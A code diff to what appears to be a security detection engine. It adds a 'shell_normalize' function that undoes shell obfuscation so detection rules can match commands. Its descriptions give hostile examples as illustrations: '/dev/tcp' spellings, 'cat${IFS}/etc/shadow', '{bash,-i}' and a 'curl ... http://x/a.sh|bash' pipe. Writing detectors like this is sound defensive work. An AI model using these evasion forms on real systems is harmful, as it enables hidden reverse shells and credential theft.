@@ -10,7 +10,7 @@
 import {cidrMatcher, parseCidr} from './cidr.js';
 import {regexCache} from './regex.js';
 import {casefold} from './sigma/casefold.js';
-import {invisibleCharacters, shellUnquote, visibleText} from './shell-text.js';
+import {invisibleCharacters, shellNormalize, shellUnquote, visibleText} from './shell-text.js';
 import {trimEndChar} from '../util/text.js';
 import type {Token} from './sql-lexer.js';
 
@@ -199,8 +199,15 @@ export const USER_FUNCTIONS: readonly UserFunction[] = [
     name: 'shell_unquote',
     usage: '`shell_unquote(text)`',
     description:
-      "the text with shell quoting removed as bash removes it, so literals split by quotes read whole: `shell_unquote('/dev/t\"\"cp')` is `/dev/tcp`, and so are `/dev/t''cp`, `/dev/\\tcp` and `$'\\x2fdev\\x2ftcp'`; `'…'` keeps its content, `\"…\"` keeps it but for a backslash before a dollar, backquote, double quote or backslash, `$'…'` decodes ANSI-C escapes, an unquoted backslash quotes the next character, a comment keeps its quotes, `$(…)` inside `\"…\"` is read afresh, a quoted phrase that starts a word and holds a blank keeps one quote in front (it is one argument: `grep 'nc -e'` reads `grep 'nc -e`); expansions (`$IFS`, `${x}`) are not undone. A JSON array of strings (`shell_unquote(command_line)`) is unquoted one argument at a time, joined with spaces as `cmdline` is, so a quote in one argument cannot change how another reads. Reads the stored form, returns plain text, NULL stays NULL. Linear in the text.",
+      "the text with shell quoting removed as bash removes it, so literals split by quotes read whole: `shell_unquote('/dev/t\"\"cp')` is `/dev/tcp`, and so are `/dev/t''cp`, `/dev/\\tcp` and `$'\\x2fdev\\x2ftcp'`; `'…'` keeps its content, `\"…\"` keeps it but for a backslash before a dollar, backquote, double quote or backslash, `$'…'` decodes ANSI-C escapes, an unquoted backslash quotes the next character, a comment keeps its quotes, `$(…)` inside `\"…\"` is read afresh, a quoted phrase that starts a word and holds a blank keeps one quote in front (it is one argument: `grep 'nc -e'` reads `grep 'nc -e`); expansions (`$IFS`, `${x}`, `$@`) and brace expansion stay as written (`shell_normalize` undoes them). A JSON array of strings (`shell_unquote(command_line)`) is unquoted one argument at a time, joined with spaces as `cmdline` is, so a quote in one argument cannot change how another reads. Reads the stored form, returns plain text, NULL stays NULL. Linear in the text.",
     create: () => (text) => (text === null || text === undefined ? null : shellUnquote(String(text))),
+  },
+  {
+    name: 'shell_normalize',
+    usage: '`shell_normalize(text)`',
+    description:
+      "the text as the command bash would run when the shell has no arguments and a variable slipped into a word is unset: `shell_unquote`'s quote removal, and the expansions used to split or space out words undone in the same pass. `$IFS`, `${IFS}` and `${IFS%??}`-style forms are one blank (`cat${IFS}/etc/shadow` is `cat /etc/shadow`); `$1`–`$9`, `$@`, `$*` (braced too) and empty substitutions (`$()`, two backquotes) are nothing (`c$@url`, `cu$()rl` are `curl`); another plain variable (`$u`, `${x}`) is nothing when a letter or digit follows it in the word (`n${x}c` is `nc`, `/dev/${x}tcp` is `/dev/tcp`) and stays as written otherwise (`cp $HOME/x $BACKUP/` is unchanged: an admin's variable stands for a whole word or a path's start); a brace list with a comma that starts a word is its elements separated by blanks (`{bash,-i}` is `bash -i`, `{curl,-fsSL,http://x/a.sh}|bash` is `curl -fsSL http://x/a.sh|bash`; a suffix after the `}` follows the last element once). Not undone: `$0`, `$$`, `$?`, `${x:-word}` and other forms with an operator, sequences `{1..5}`, lists inside a word, variables set earlier in the text, aliases, functions, `eval` of a built string. A JSON array is read one argument at a time, as `shell_unquote` does. Reads the stored form, returns plain text never longer than the input, NULL stays NULL. Linear in the text. What the built-in shell-text rules read beside the text as written (docs/detection-limits.md).",
+    create: () => (text) => (text === null || text === undefined ? null : shellNormalize(String(text))),
   },
   {
     name: 'basename',
